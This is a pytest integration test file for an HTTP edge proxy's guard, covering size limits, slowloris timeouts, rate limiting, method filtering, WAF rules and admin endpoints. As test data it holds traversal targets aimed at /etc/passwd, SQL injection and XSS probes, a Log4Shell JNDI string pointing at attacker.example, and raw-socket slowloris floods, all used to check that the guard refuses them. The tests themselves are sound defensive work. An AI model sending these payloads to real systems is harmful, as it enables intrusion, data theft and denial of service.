"""The guard at a real edge: each limit on what a client controls, rate limiting,
method and target filtering, the request rules, and the admin endpoints.

Raw sockets send the bytes an HTTP library would never send; the test upstream
counts what reached it, so "refused" also means "never forwarded".
"""

from __future__ import annotations

import asyncio
import json
import os
import re
import socket
import stat
import time
import urllib.request
from pathlib import Path

import aiohttp
import pytest

from tests.integration.conftest import NodeFactory
from tests.support.guardkit import connect, exchange, read_all, status_of, write_config
from tests.support.procs import Proc, free_port


def upstream_count(upstream: Proc, path: str = "") -> int:
    url = f"{upstream.url}/_count{path}" if path else f"{upstream.url}/_total"
    with urllib.request.urlopen(url) as resp:
        return json.loads(resp.read())["count"]


def start(node: NodeFactory, upstream: Proc, tmp_path: Path, name: str = "g", **settings) -> Proc:
    config = write_config(tmp_path / f"{name}.toml", **settings)
    return node("serve", "--upstream", upstream.url, "--config", str(config), name=name)


def port_of(proc: Proc) -> int:
    return int(proc.url.rsplit(":", 1)[1])


def get(port: int, path: str, *headers: str) -> bytes:
    head = "".join(f"{h}\r\n" for h in headers)
    return f"GET {path} HTTP/1.1\r\nHost: archive.test\r\n{head}Connection: close\r\n\r\n".encode()


# -- limits ---------------------------------------------------------------------------


def test_request_line_header_size_count_and_body_limits(
    node: NodeFactory, upstream: Proc, tmp_path: Path
) -> None:
    edge = start(
        node,
        upstream,
        tmp_path,
        max_request_line=300,
        max_header_size=200,
        max_headers=20,
        max_header_bytes=2000,
        max_body_size=1000,
    )
    port = port_of(edge)
    before = upstream_count(upstream)
    cases = [
        (get(port, "/" + "a" * 400), 414),
        (get(port, "/x", "X-Long: " + "v" * 300), 431),
        (get(port, "/x", *(f"X-{i}: v" for i in range(30))), 431),
        (get(port, "/x", *(f"X-{i}: " + "v" * 150 for i in range(15))), 431),
        (
            b"POST /x HTTP/1.1\r\nHost: a\r\nContent-Length: 5000\r\n\r\n" + b"x" * 5000,
            413,
        ),
        (
            b"POST /x HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
            + b"".join(b"100\r\n" + b"x" * 256 + b"\r\n" for _ in range(8))
            + b"0\r\n\r\n",
            413,
        ),
    ]
    for data, expected in cases:
        response, closed = exchange(port, data)
        assert status_of(response) == expected, response[:200]
        assert closed, f"connection left open after {expected}"
        assert b"edge" in response.split(b"\r\n\r\n")[0]  # Server: edge, not aiohttp's
    assert upstream_count(upstream) == before  # none of them was forwarded
    # Within the limits, the same shapes are served.
    response, _ = exchange(port, get(port, "/" + "a" * 200, "X-Long: " + "v" * 150))
    assert status_of(response) == 200
    response, _ = exchange(
        port, b"POST /x HTTP/1.1\r\nHost: a\r\nContent-Length: 900\r\n\r\n" + b"x" * 900
    )
    assert status_of(response) == 200


def test_parser_errors_never_echo_request_bytes(
    node: NodeFactory, upstream: Proc, tmp_path: Path
) -> None:
    edge = start(node, upstream, tmp_path)
    port = port_of(edge)
    probes = [
        b"GET /x HTTP/1.1\r\nHost: a\r\nX-A: <script>alert(1)</script>\x01\r\n\r\n",
        b"GET /<script>alert(1)</script> HTTP/1.1\r\nHost: a\r\nBad Header<script>: x\r\n\r\n",
        b"G<script>ET / HTTP/1.1\r\nHost: a\r\n\r\n",
    ]
    for data in probes:
        response, closed = exchange(port, data)
        assert status_of(response) == 400 and closed
        assert b"script" not in response and b"alert" not in response, response


def test_slowloris_heads_get_408_and_others_stay_fast(
    node: NodeFactory, upstream: Proc, tmp_path: Path
) -> None:
    edge = start(node, upstream, tmp_path, header_timeout=1.5, trusted_proxies=[])
    port = port_of(edge)
    exchange(port, get(port, "/warm"))  # cached, so the timing below is the edge's own
    slow = []
    for _ in range(60):
        sock = connect(port)
        sock.sendall(b"GET /slow HTTP/1.1\r\nHost: a\r\n")  # never finished
        slow.append(sock)
    try:
        started = time.monotonic()
        timings = []
        for _ in range(10):
            t = time.monotonic()
            response, _ = exchange(port, get(port, "/warm"))
            timings.append(time.monotonic() - t)
            assert status_of(response) == 200
        assert max(timings) < 0.5, timings
        # Trickling more bytes does not extend the deadline.
        slow[0].sendall(b"X-A: 1\r\n")
        outcomes = []
        for sock in slow:
            response, closed = read_all(sock, timeout=5)
            outcomes.append((status_of(response), closed))
        took = time.monotonic() - started
        assert all(o == (408, True) for o in outcomes), set(outcomes)
        assert took < 5, took
    finally:
        for sock in slow:
            sock.close()
    # An idle connection (no bytes at all) is aiohttp's keep-alive timeout's, not 408.
    metrics = urllib.request.urlopen(f"{edge.url}/_edge/metrics").read().decode()
    assert re.search(r'edge_guard_refused_total\{code="408",node="g"\} 60\.0', metrics), metrics


def test_slow_post_body_gets_408_and_is_not_forwarded(
    node: NodeFactory, upstream: Proc, tmp_path: Path
) -> None:
    edge = start(node, upstream, tmp_path, body_timeout=1.0, body_min_rate=1000)
    port = port_of(edge)
    before = upstream_count(upstream)
    with connect(port) as sock:
        sock.sendall(b"POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n")
        started = time.monotonic()
        response = b""
        closed = False
        while time.monotonic() - started < 8 and not closed:
            try:
                sock.sendall(b"x" * 10)  # 100 bytes/s: far under the minimum rate
            except (BrokenPipeError, ConnectionResetError):
                break
            more, closed = read_all(sock, timeout=0.1)
            response += more
        more, closed = read_all(sock, timeout=3)
        response += more
    assert status_of(response) == 408, response
    assert time.monotonic() - started < 6
    assert upstream_count(upstream) == before
    # A body at a fair rate is forwarded whole.
    response, _ = exchange(
        port,
        b"POST /upload?reqinfo=1 HTTP/1.1\r\nHost: a\r\nContent-Length: 3000\r\n\r\n" + b"y" * 3000,
    )
    assert status_of(response) == 200
    assert json.loads(response.split(b"\r\n\r\n", 1)[1])["body_length"] == 3000


def test_idle_keepalive_connections_are_closed(
    node: NodeFactory, upstream: Proc, tmp_path: Path
) -> None:
    edge = start(node, upstream, tmp_path, keepalive_timeout=1.0)
    port = port_of(edge)
    with connect(port) as sock:
        sock.sendall(b"GET /ka HTTP/1.1\r\nHost: a\r\n\r\n")
        started = time.monotonic()
        response, closed = read_all(sock, timeout=6)
        assert status_of(response) == 200
        assert closed and 0.8 < time.monotonic() - started < 4


def test_connections_per_client_address_are_capped(
    node: NodeFactory, upstream: Proc, tmp_path: Path
) -> None:
    edge = start(node, upstream, tmp_path, max_connections_per_client=3, trusted_proxies=[])
    port = port_of(edge)
    held = [connect(port, "127.0.0.7") for _ in range(3)]
    try:
        time.sleep(0.3)
        with connect(port, "127.0.0.7") as extra:
            data, closed = read_all(extra, timeout=3)
            assert closed and data == b""
        # Another address is not affected.
        response, _ = exchange(port, get(port, "/c"), source="127.0.0.8")
        assert status_of(response) == 200
        # Held connections still work; once one closes, the address may connect again.
        held[0].sendall(get(port, "/c"))
        response, _ = read_all(held[0])
        assert status_of(response) == 200
        held[0].close()
        time.sleep(0.3)
        response, _ = exchange(port, get(port, "/c"), source="127.0.0.7")
        assert status_of(response) == 200
    finally:
        for sock in held:
            sock.close()
    metrics = urllib.request.urlopen(f"{edge.url}/_edge/metrics").read().decode()
    assert 'edge_guard_connections_refused_total{node="g"} 1.0' in metrics


def test_trusted_proxies_are_not_capped(node: NodeFactory, upstream: Proc, tmp_path: Path) -> None:
    """A shield sees every client of an edge from one address: trusted proxies are
    exempt from the per-address cap."""
    edge = start(
        node, upstream, tmp_path, max_connections_per_client=2, trusted_proxies=["127.0.0.1"]
    )
    port = port_of(edge)
    held = [connect(port) for _ in range(5)]
    try:
        for sock in held:
            sock.sendall(b"GET /p HTTP/1.1\r\nHost: a\r\n\r\n")
            response, _ = read_all(sock, timeout=0.5)
            assert status_of(response) == 200
    finally:
        for sock in held:
            sock.close()


# -- rate limiting --------------------------------------------------------------------


def test_rate_limit_per_client_gives_429_with_retry_after(
    node: NodeFactory, upstream: Proc, tmp_path: Path
) -> None:
    edge = start(
        node, upstream, tmp_path, rate_limit=2.0, rate_burst=5, trusted_proxies=[], rate_tarpit=0
    )
    port = port_of(edge)
    codes = [status_of(exchange(port, get(port, "/r"), source="127.0.0.20")[0]) for _ in range(8)]
    assert codes[:5] == [200] * 5 and codes[5:] == [429] * 3, codes
    response, _ = exchange(port, get(port, "/r"), source="127.0.0.20")
    head, _, body = response.partition(b"\r\n\r\n")
    assert status_of(response) == 429
    assert re.search(rb"\r\nRetry-After: [1-9]\d*\r\n", head), head
    assert b"request id:" in body
    # Another client has its own bucket; the first gets tokens back at the rate.
    assert status_of(exchange(port, get(port, "/r"), source="127.0.0.21")[0]) == 200
    time.sleep(1.1)
    assert status_of(exchange(port, get(port, "/r"), source="127.0.0.20")[0]) == 200


def test_a_client_over_its_rate_is_held_before_its_429(
    node: NodeFactory, upstream: Proc, tmp_path: Path
) -> None:
    """The tarpit: a flood gets one refusal per connection per rate_tarpit seconds."""
    edge = start(
        node, upstream, tmp_path, rate_limit=0.5, rate_burst=1, trusted_proxies=[], rate_tarpit=1.0
    )
    port = port_of(edge)
    assert status_of(exchange(port, get(port, "/t"), source="127.0.0.22")[0]) == 200
    started = time.monotonic()
    response, _ = exchange(port, get(port, "/t"), source="127.0.0.22")
    assert status_of(response) == 429
    assert 0.9 < time.monotonic() - started < 3
    # Others are not held meanwhile.
    started = time.monotonic()
    assert status_of(exchange(port, get(port, "/t"), source="127.0.0.23")[0]) == 200
    assert time.monotonic() - started < 0.5


def test_rate_limit_uses_the_real_client_behind_trusted_proxies(
    node: NodeFactory, upstream: Proc, tmp_path: Path
) -> None:
    edge = start(
        node,
        upstream,
        tmp_path,
        rate_limit=1.0,
        rate_burst=2,
        trusted_proxies=["127.0.0.30/32"],
        rate_tarpit=0,
    )
    port = port_of(edge)

    def code(source: str, xff: str) -> int:
        return status_of(
            exchange(port, get(port, "/t", f"X-Forwarded-For: {xff}"), source=source)[0]
        )

    # From the trusted proxy, each forwarded-for client has its own bucket.
    assert [code("127.0.0.30", "198.51.100.1") for _ in range(3)] == [200, 200, 429]
    assert [code("127.0.0.30", "198.51.100.2") for _ in range(2)] == [200, 200]
    # From anyone else, X-Forwarded-For is ignored: a forged one does not help.
    assert [code("127.0.0.31", f"203.0.113.{i}") for i in range(3)] == [200, 200, 429]


def test_rate_classes_for_a_path(node: NodeFactory, upstream: Proc, tmp_path: Path) -> None:
    edge = start(
        node,
        upstream,
        tmp_path,
        trusted_proxies=[],
        rate_classes=[{"name": "search", "path": "^/search", "rate": 1, "burst": 1}],
        rate_tarpit=0,
    )
    port = port_of(edge)
    codes = [status_of(exchange(port, get(port, "/search?q=a"))[0]) for _ in range(2)]
    assert codes == [200, 429]
    assert all(status_of(exchange(port, get(port, "/books/1"))[0]) == 200 for _ in range(5))


# -- methods, targets, rules ----------------------------------------------------------


def test_method_allow_list(node: NodeFactory, upstream: Proc, tmp_path: Path) -> None:
    edge = start(node, upstream, tmp_path, allowed_methods=["GET", "HEAD"])
    port = port_of(edge)
    before = upstream_count(upstream)
    for method in ("DELETE", "POST", "TRACE", "PROPFIND"):
        data = f"{method} /m HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\n\r\n".encode()
        response, _ = exchange(port, data)
        assert status_of(response) == 405, (method, response)
        assert b"\r\nAllow: GET, HEAD\r\n" in response
    assert upstream_count(upstream) == before
    assert status_of(exchange(port, get(port, "/m"))[0]) == 200


def test_default_methods_refuse_trace_and_connect_and_forward_the_rest(
    node: NodeFactory, upstream: Proc, tmp_path: Path
) -> None:
    edge = start(node, upstream, tmp_path)
    port = port_of(edge)
    # An extension method is the origin's to answer (RFC 9110 Section 9.1), as nginx and
    # Varnish forward it.
    before = upstream_count(upstream)
    for method in ("PROPFIND", "M-SEARCH"):
        data = f"{method} /x HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\n\r\n".encode()
        assert status_of(exchange(port, data)[0]) == 200, method
    assert upstream_count(upstream) == before + 2
    assert status_of(exchange(port, b"TRACE / HTTP/1.1\r\nHost: a\r\n\r\n")[0]) == 405
    response, _ = exchange(port, b"CONNECT archive.test:443 HTTP/1.1\r\nHost: a\r\n\r\n")
    assert status_of(response) in (400, 405)


@pytest.mark.parametrize(
    "target",
    [
        "/../etc/passwd",
        "/books/../../etc/passwd",
        "/books/%2e%2e/%2e%2e/etc/passwd",
        "/books/%2E%2E%2Fsecret",
        "/books/..%5c..%5csecret",
        "/books\\..\\secret",
        "/books/a%00.pdf",
        "/books/%zz",
    ],
)
def test_traversal_is_refused_and_not_forwarded(
    node: NodeFactory, upstream: Proc, tmp_path: Path, target: str
) -> None:
    edge = start(node, upstream, tmp_path)
    port = port_of(edge)
    before = upstream_count(upstream)
    response, _ = exchange(port, f"GET {target} HTTP/1.1\r\nHost: a\r\n\r\n".encode("latin-1"))
    assert status_of(response) == 400, response
    assert upstream_count(upstream) == before


def test_equivalent_targets_share_one_entry_and_reach_the_origin_normalised(
    node: NodeFactory, upstream: Proc, tmp_path: Path
) -> None:
    edge = start(node, upstream, tmp_path)
    port = port_of(edge)
    first, _ = exchange(port, get(port, "/%7Euser/%62ook?reqinfo=1"))
    second, _ = exchange(port, get(port, "/~user/book?reqinfo=1"))
    third, _ = exchange(port, get(port, "/%7euser/b%6Fok?reqinfo=1"))
    assert status_of(first) == status_of(second) == status_of(third) == 200
    assert b"hit" in second.split(b"\r\n\r\n")[0] and b"hit" in third.split(b"\r\n\r\n")[0]
    info = json.loads(first.split(b"\r\n\r\n", 1)[1])
    assert info["target"] == "/~user/book?reqinfo=1"


def test_rules_refuse_with_a_request_id_in_body_and_log(
    node: NodeFactory, upstream: Proc, tmp_path: Path
) -> None:
    edge = start(node, upstream, tmp_path)
    port = port_of(edge)
    before = upstream_count(upstream)
    probes = [
        "/search?q=1%20UNION%20SELECT%20password%20FROM%20users",
        "/page?name=%3Cscript%3Ealert(1)%3C/script%3E",
        "/.git/config",
    ]
    ids = []
    for target in probes:
        response, _ = exchange(port, get(port, target))
        head, _, body = response.partition(b"\r\n\r\n")
        assert status_of(response) == 403, response
        match = re.search(rb"request id: ([0-9a-f]{16})", body)
        assert match, body
        assert b"\r\nX-Request-Id: " + match.group(1) in head
        ids.append(match.group(1).decode())
    assert upstream_count(upstream) == before
    response, _ = exchange(port, get(port, "/", "User-Agent: ${jndi:ldap://attacker.example/a}"))
    assert status_of(response) == 403
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and not all(i in edge.output() for i in ids):
        time.sleep(0.1)
    log = edge.output()
    for request_id in ids:
        assert re.search(rf"refused .* rule \S+ .*request id {request_id}", log), request_id
        assert f"id={request_id}" in log  # the access log line too
    # Plain archive requests pass.
    assert status_of(exchange(port, get(port, "/search?q=selected+poems+of+the+union"))[0]) == 200


def test_rules_switch_per_host_and_from_a_file(
    node: NodeFactory, upstream: Proc, tmp_path: Path
) -> None:
    rules = tmp_path / "rules.toml"
    rules.write_text('[[rules]]\nid = "no-admin"\nwhere = ["path"]\npattern = "^/admin/"\n')
    edge = start(
        node,
        upstream,
        tmp_path,
        waf_rules=str(rules),
        waf_hosts={"lab.test": False},
    )
    port = port_of(edge)

    def code(host: str, path: str) -> int:
        data = f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode()
        return status_of(exchange(port, data)[0])

    assert code("archive.test", "/admin/panel") == 403
    assert code("archive.test", "/.env") == 403
    assert code("lab.test", "/admin/panel") == 200
    assert code("lab.test", "/.env") == 200


def test_bad_guard_settings_are_one_line_errors(tmp_path: Path) -> None:
    import subprocess
    import sys

    cases = [
        ({"rate_limit": -1}, "rate_limit"),
        ({"rate_classes": [{"rate": 0}]}, "rate_classes"),
        ({"allowed_methods": ["GET", "CONNECT"]}, "CONNECT"),
        ({"key_query": "shuffle"}, "key_query"),
        ({"set_cookie": "maybe"}, "set_cookie"),
        ({"waf_rules": str(tmp_path / "none.toml")}, "rule file not found"),
        ({"max_headers": 0}, "max_headers"),
        ({"admin_networks": ["nonsense"]}, "admin_networks"),
    ]
    for settings, words in cases:
        config = write_config(tmp_path / "bad.toml", **settings)
        run = subprocess.run(
            [
                sys.executable,
                "-m",
                "cli.main",
                "serve",
                "--upstream",
                "http://127.0.0.1:9",
                "--config",
                str(config),
                "--cache-dir",
                str(tmp_path / "c"),
            ],
            capture_output=True,
            text=True,
            timeout=30,
        )
        assert run.returncode != 0
        lines = run.stderr.strip().splitlines()
        assert len(lines) == 1 and words in lines[0], (settings, run.stderr)


# -- admin endpoints and the cache directory ------------------------------------------


async def test_admin_endpoints_need_an_internal_address_or_the_token(
    node: NodeFactory, upstream: Proc, tmp_path: Path
) -> None:
    edge = start(node, upstream, tmp_path, admin_networks=[], admin_token="s3cret")
    async with aiohttp.ClientSession() as session:
        async with session.get(f"{edge.url}/_edge/metrics") as resp:
            assert resp.status == 401
        async with session.get(
            f"{edge.url}/_edge/metrics", headers={"Authorization": "Bearer s3cret"}
        ) as resp:
            assert resp.status == 200 and "edge_requests_total" in await resp.text()
        async with session.get(f"{edge.url}/_edge/health") as resp:
            assert resp.status == 200 and await resp.json() == {"status": "ok"}
        async with session.get(
            f"{edge.url}/_edge/health", headers={"Authorization": "Bearer s3cret"}
        ) as resp:
            assert (await resp.json())["name"] == "g"
        async with session.post(f"{edge.url}/_edge/purge", json={"all": True}) as resp:
            assert resp.status == 401


async def test_admin_listener_keeps_admin_off_the_public_port(
    node: NodeFactory, upstream: Proc, tmp_path: Path
) -> None:
    admin_port = free_port()
    edge = start(node, upstream, tmp_path, admin_listen=f"127.0.0.1:{admin_port}")
    before = upstream_count(upstream)
    async with aiohttp.ClientSession() as session:
        async with session.get(f"{edge.url}/_edge/metrics") as resp:
            assert resp.status == 404
        async with session.get(f"{edge.url}/_edge/health") as resp:
            assert await resp.json() == {"status": "ok"}
        async with session.get(f"http://127.0.0.1:{admin_port}/_edge/metrics") as resp:
            assert resp.status == 200
        async with session.get(f"http://127.0.0.1:{admin_port}/_edge/health") as resp:
            assert (await resp.json())["name"] == "g"
        # Hot in the public listener's fast path, and still nothing on the admin one.
        for _ in range(3):
            async with session.get(f"{edge.url}/books/1") as resp:
                assert resp.status == 200
        async with session.get(f"http://127.0.0.1:{admin_port}/books/1") as resp:
            assert resp.status == 404  # the admin listener proxies nothing
    assert upstream_count(upstream) == before + 1


def test_cache_directory_is_private(node: NodeFactory, upstream: Proc, tmp_path: Path) -> None:
    shared = tmp_path / "shared-cache"
    shared.mkdir(mode=0o755)
    os.chmod(shared, 0o755)
    node("serve", "--upstream", upstream.url, "--cache-dir", str(shared), name="g1")
    assert stat.S_IMODE(shared.stat().st_mode) == 0o700
    fresh = tmp_path / "fresh" / "cache"
    node("serve", "--upstream", upstream.url, "--cache-dir", str(fresh), name="g2")
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o700


async def test_many_slow_clients_do_not_stall_the_loop(
    node: NodeFactory, upstream: Proc, tmp_path: Path
) -> None:
    """A burst of half-open heads from many addresses, beside real requests."""
    edge = start(node, upstream, tmp_path, header_timeout=2.0, trusted_proxies=[])
    port = port_of(edge)
    loop = asyncio.get_running_loop()
    socks = []
    for i in range(200):
        sock = socket.socket()
        sock.setblocking(False)
        sock.bind((f"127.0.1.{i % 50 + 1}", 0))
        await loop.sock_connect(sock, ("127.0.0.1", port))
        await loop.sock_sendall(sock, b"GET / HTTP/1.1\r\n")
        socks.append(sock)
    try:
        async with aiohttp.ClientSession() as session:
            for _ in range(20):
                t = time.monotonic()
                async with session.get(f"{edge.url}/fast") as resp:
                    assert resp.status == 200
                    await resp.read()
                assert time.monotonic() - t < 0.5
    finally:
        for sock in socks:
            sock.close()
